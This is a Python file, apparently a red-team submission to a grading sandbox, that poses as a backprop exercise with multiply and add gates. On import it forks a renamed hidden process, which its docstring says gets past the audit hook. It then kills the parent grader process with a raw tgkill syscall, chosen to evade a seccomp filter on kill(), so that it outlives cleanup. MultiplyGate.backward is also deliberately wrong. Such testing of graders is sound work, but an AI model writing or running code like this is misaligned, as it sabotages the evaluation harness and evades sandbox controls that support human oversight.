"""Attack: kill the process that started us, so nobody is left to kill our group.

At import: starts a background process with libc fork() (past the audit hook),
renamed "bpgpwn-zkill", that lives 20 s and prints nothing; then sends SIGKILL to
the parent process with the raw tgkill system call (seccomp filters kill(), not
tgkill). Under batch grading the parent is the warm fork server, which is also
what would kill this submission's processes when grading ends. In the default
mode the parent is bubblewrap's init (ignored) or the grader itself.
MultiplyGate.backward is wrong.
"""
import ctypes
import os
import platform
import signal
import time

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd(), flush=True)

libc = ctypes.CDLL(None, use_errno=True)
TGKILL = 131 if platform.machine() in ("aarch64", "arm64") else 234

pid = libc.fork()
if pid == 0:
    libc.prctl(15, b"bpgpwn-zkill", 0, 0, 0)  # PR_SET_NAME
    end = time.monotonic() + 20
    while time.monotonic() < end:
        time.sleep(0.1)
    os._exit(0)
print("forked=%d" % pid)
parent = os.getppid()
r = libc.syscall(TGKILL, parent, parent, signal.SIGKILL)
print("%s parent %d" % ("KILLED" if r == 0 else "could not kill", parent), flush=True)


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
